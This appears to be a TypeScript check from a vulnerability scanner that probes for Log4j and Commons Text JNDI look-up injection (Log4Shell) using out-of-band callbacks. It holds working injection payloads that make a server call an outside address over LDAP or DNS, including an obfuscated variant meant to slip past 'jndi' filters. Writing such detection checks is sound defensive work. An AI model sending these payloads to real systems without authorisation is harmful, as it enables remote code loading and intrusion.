// JNDI look-ups in log messages: a value that is logged makes the server call an address (CVE-2021-44228 and its kin).
import { defineCheck } from "../check.ts";
import type { PointCheck } from "../check.ts";
import { firstCalled } from "../execution/out-of-band-proof.ts";
import type { Call } from "../execution/out-of-band-proof.ts";

const by = "A library that resolves look-ups in text (as Log4j 2 before 2.17.1 and Commons Text before 1.10 do)";
const authority = (url: string): string => url.replace(/^http:\/\//, "");
const calls: readonly Call[] = [
  { technique: "ldap", by, write: ({ url }) => `\${jndi:ldap://${authority(url)}}` },
  // What filters for "jndi" do not see before the look-ups within are resolved.
  { technique: "ldap-hidden", by, write: ({ url }) => `\${\${lower:j}\${lower:n}\${lower:d}i:\${lower:l}dap://${authority(url)}}` },
  { technique: "dns", by, write: ({ host, url }) => `\${jndi:dns://${host ?? authority(url)}}` },
  { technique: "text-url", by, write: ({ url }) => `\${url:UTF-8:${url}}` },
];

export const jndiLookup = defineCheck<PointCheck>({
  id: "jndi-lookup", about: "A value that is logged or formatted is resolved as a look-up that calls out.",
  title: "JNDI look-up injection", cwe: 917, owasp: ["A06", "A03"], severity: "critical", risk: "out-of-band", attackClass: "jndi-lookup",
  remediation: "Update Log4j 2 to 2.17.1 or later (Commons Text to 1.10 or later). Until then remove the class JndiLookup from the archive and forbid outgoing connections of the process.",
  on: "point", fits: ({ kind }) => kind !== "header-name" && kind !== "query-name" && kind !== "form-name" && kind !== "url-path-suffix",
  async *probe(point, tools) {
    const proof = await firstCalled(point, tools, calls);
    if (proof !== undefined) yield proof;
  },
});
